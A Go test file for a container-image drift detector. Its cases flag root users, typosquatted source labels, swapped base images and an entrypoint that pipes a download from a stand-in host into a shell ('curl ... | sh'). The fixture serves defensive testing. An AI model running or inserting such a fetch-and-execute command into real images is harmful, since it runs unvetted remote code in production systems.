package binary

import (
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
)

func TestConfigDrift(t *testing.T) {
	run := func(words ...string) v1.Config { return v1.Config{Entrypoint: words, User: "10001"} }
	label := func(name, value string) v1.Config {
		return v1.Config{User: "1", Labels: map[string]string{name: value}}
	}
	const source, digest = "org.opencontainers.image.source", "org.opencontainers.image.base.digest"
	fetches := run("/bin/sh", "-c", "curl -fsS https://boot.example/i | sh; exec /srv/run")
	same, rebuilt, all := &inspect.LayerDiff{Shared: 3}, &inspect.LayerDiff{Shared: 1, Added: 2}, &inspect.LayerDiff{Added: 3}
	for name, tt := range map[string]struct {
		now, before v1.Config
		layers      *inspect.LayerDiff
		release     release
		code        string
		severity    inspect.Severity
	}{
		"fetches what it runs":           {fetches, run("/srv/run"), rebuilt, otherRelease, "entrypoint-pipe-to-shell", inspect.High},
		"always did":                     {fetches, fetches, same, unknownRelease, "", ""},
		"another command, same layers":   {run("/srv/other"), run("/srv/run"), same, unknownRelease, "entrypoint-changed", inspect.Medium},
		"another command, another build": {run("/srv/run", "-v"), run("/srv/run"), rebuilt, unknownRelease, "", ""},
		"another command, next release":  {run("/srv/run", "-v"), run("/srv/run"), same, otherRelease, "", ""},
		"root now":                       {v1.Config{User: "root"}, run(), rebuilt, unknownRelease, "user-became-root", inspect.Medium},
		"root always":                    {v1.Config{}, v1.Config{User: "0:0"}, rebuilt, unknownRelease, "", ""},
		"a stranger's source": {
			label(source, "https://github.com/acm3/app"), label(source, "https://github.com/acme/app"), rebuilt, unknownRelease,
			"label-foreign-source", inspect.High,
		},
		"the same source, otherwise": {
			label(source, "git@github.com:acme/app.git"), label(source, "https://github.com/acme/app"), rebuilt, unknownRelease, "", "",
		},
		"the same owner": {
			label(source, "https://github.com/acme/mono"), label(source, "https://github.com/acme/app"), rebuilt, unknownRelease, "", "",
		},
		"a base that is none": {label(digest, "sha256:a"), label(digest, "sha256:a"), all, unknownRelease, "base-swapped", inspect.High},
		"another base":        {label(digest, "sha256:b"), label(digest, "sha256:a"), all, unknownRelease, "", ""},
	} {
		d := configDrift{now: tt.now, before: tt.before, layers: tt.layers, release: tt.release, container: "web"}
		for _, confirmed := range []bool{true, false} {
			d.good.Confirmed = confirmed
			var got inspect.Finding
			if list := d.findings(); len(list) > 0 {
				got = list[0]
			}
			want := tt.severity
			if !confirmed {
				want = lowered(want)
			}
			if got.Code != tt.code || got.Severity != want {
				t.Errorf("%s (confirmed %v): %s %s", name, confirmed, got.Severity, got.Code)
			}
		}
	}
}
